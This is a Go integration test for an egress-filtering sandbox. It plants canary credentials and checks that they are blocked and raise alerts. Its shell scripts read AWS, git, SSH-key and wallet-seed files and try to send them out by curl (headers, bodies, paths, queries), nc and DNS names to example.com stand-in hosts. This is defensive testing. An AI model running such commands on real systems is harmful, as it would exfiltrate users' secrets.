package integration

import (
	"fmt"
	"io"
	"net"
	"strings"
	"testing"

	"creel/internal/audit/event"

	"github.com/google/go-cmp/cmp"
)

const canaryPolicy = `
rules:
  - {allow: plain.example.com, protocol: http, upstream: PLAIN}
  - {allow: opened.example.com, methods: [GET, POST], upstream: UPSTREAM}
  - {allow: stream.example.com, ports: 7000, upstream: {address: %q}}
`

// Planted credentials are where attackers look, and sending one anywhere is an
// alert: in a header, a body, a path, over TLS that is opened, in a stream that
// nobody looks into otherwise, and in a name. It does not arrive.
func TestClientsCanaries(t *testing.T) {
	r, image := clients(t)
	w := newWorld(t)
	arrived := make(chan string, 8)
	stream := serveStreams(t, func(c net.Conn) error {
		all, err := io.ReadAll(c)
		arrived <- string(all)
		return err
	})
	policy := w.policy(t, fmt.Sprintf(canaryPolicy, stream))
	script := `cd
		for file in .aws/credentials .git-credentials .ssh/id_ed25519 .config/wallet/seed.json; do
			test -s $file && echo "$file is there"
		done
		aws=$(sed -n 's/^aws_secret_access_key = //p' .aws/credentials)
		git=$(sed 's,.*:\(.*\)@.*,\1,' .git-credentials)
		wallet=$(sed 's/.*"seed":"\([^"]*\)".*/\1/' .config/wallet/seed.json)
		curl -sS -w '%{http_code}\n' -o /dev/null -H "Authorization: Bearer $NPM_TOKEN" http://plain.example.com/header/hello
		curl -sS -w '%{http_code}\n' -o /dev/null --data-binary @.ssh/id_ed25519 https://opened.example.com/body/hello
		curl -sS -w '%{http_code}\n' -o /dev/null https://opened.example.com/$git/hello
		curl -sS -w '%{http_code}\n' -o /dev/null "http://plain.example.com/query/hello?k=$aws"
		printf 'look: %s' $aws | nc -N stream.example.com 7000
		getent hosts $wallet.plain.example.com || echo no such name
		curl -sS http://plain.example.com/harmless/hello`
	got := r.Run(t, "run", "--name", "canaries", "--canaries", "--policy", policy, image, "sh", "-c", script)
	want := ".aws/credentials is there\n.git-credentials is there\n.ssh/id_ed25519 is there\n.config/wallet/seed.json is there\n" +
		"403\n403\n403\n403\nno such name\nhello harmless, your key is <>\n"
	if got.Out != want || got.Code != 0 {
		t.Errorf("got %+v, want %q", got, want)
	}
	var alerts []string
	for _, a := range recordsOf[event.Alert](t, r, "canaries", "alert") {
		alerts = append(alerts, fmt.Sprintf("%s %s for %s in the %s", a.Alert, a.Name, a.Host, a.Where))
	}
	if diff := cmp.Diff([]string{
		"canary npm for plain.example.com in the header", "canary ssh for opened.example.com in the body",
		"canary git for opened.example.com in the path", "canary cloud for plain.example.com in the query",
		"canary cloud for stream.example.com in the stream", "canary wallet for HIDDEN in the name",
	}, alerts); diff != "" {
		t.Errorf("alerts (-want +got):\n%s", diff)
	}
	for _, host := range []string{"plain.example.com", "opened.example.com"} {
		for _, a := range w.arrived(host, "/") {
			t.Logf("arrived: %+v", a)
		}
	}
	if sent := <-arrived; sent != "look: " {
		t.Errorf("of the stream %q arrived", sent)
	}
	if !strings.Contains(got.Err, "with 6 alerts") {
		t.Errorf("at its end the run says %q", got.Err)
	}
	t.Log(got.Err)
}

// With on_alert: end that is the task's end.
func TestClientsCanaryEndsTheTask(t *testing.T) {
	r, image := clients(t)
	w := newWorld(t)
	policy := w.policy(t, "on_alert: end\nrules: [{allow: plain.example.com, protocol: http, upstream: PLAIN}]\n")
	got := r.Run(t, "run", "--name", "alerted", "--canaries", "--policy", policy, image, "sh", "-c",
		`echo begun; curl -sS --data-binary @/root/.aws/credentials http://plain.example.com/leak/hello; sleep 1000; echo went on`)
	const says = `the canary "cloud" was about to leave for plain.example.com, and the policy ends the task on that`
	if got.Code != 125 || !strings.Contains(got.Err, says) || strings.Contains(got.Out, "went on") || !strings.HasPrefix(got.Out, "begun\n") {
		t.Errorf("got %+v", got)
	}
	if exits := recordsOf[event.Exit](t, r, "alerted", "exit"); len(exits) != 1 || exits[0].Error != says {
		t.Errorf("on record is %+v", exits)
	}
}
